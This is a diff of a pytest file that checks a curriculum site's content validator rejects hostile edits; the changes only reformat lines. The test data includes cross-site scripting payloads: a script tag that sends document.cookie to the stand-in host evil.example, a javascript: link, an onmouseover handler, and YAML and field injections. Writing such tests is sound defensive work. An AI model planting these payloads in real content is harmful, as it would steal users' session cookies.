@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from conftest import Project, assert_refused, article_text, page
+from conftest import Project, article_text, assert_refused, page
 
 AL = "curriculum/competencies/active-listening.yml"
 AL_ES = "curriculum/competencies/active-listening.es.yml"
@@ -54,7 +54,8 @@ ATTACKS = [
     Attack("script tag in a case body", CASE, edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\n"
            "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"),
            line_of(CASE, "<script>"), "body", "raw HTML <script> is not allowed"),
-    Attack("javascript link in a summary", AL, edit(AL, "summary: >-\n", "summary: >-\n  [Read more](javascript:alert(1))\n"),
+    Attack("javascript link in a summary", AL,
+           edit(AL, "summary: >-\n", "summary: >-\n  [Read more](javascript:alert(1))\n"),
            line_of(AL, "summary:"), "summary", "the link 'javascript:alert(1)' is not allowed"),
     Attack("event handler through attribute lists", CASE,
            edit(CASE, "## Debrief {#debrief}\n", "## Debrief {#debrief}\n\nHello\n{: onmouseover=\"alert(1)\" }\n"),
@@ -91,7 +92,8 @@ ATTACKS = [
            line_of(RUBRIC, "threshold:"), "threshold", "would be read as a number"),
     Attack("infinity", RUBRIC, edit(RUBRIC, "threshold: 14", "threshold: .inf"),
            line_of(RUBRIC, "threshold:"), "threshold", "'.inf' would be read as the number inf"),
-    Attack("macros switched on from a case", CASE, edit(CASE, "level: emerging", "level: emerging\nrender_macros: true"),
+    Attack("macros switched on from a case", CASE,
+           edit(CASE, "level: emerging", "level: emerging\nrender_macros: true"),
            line_of(CASE, "render_macros"), "render_macros", "unknown field"),
     Attack("front matter never closed", CASE, lambda p: p.path(CASE).write_text(
            p.path(CASE).read_text("utf-8").replace("---\n\n## Scenario", "\n\n## Scenario", 1), "utf-8"),
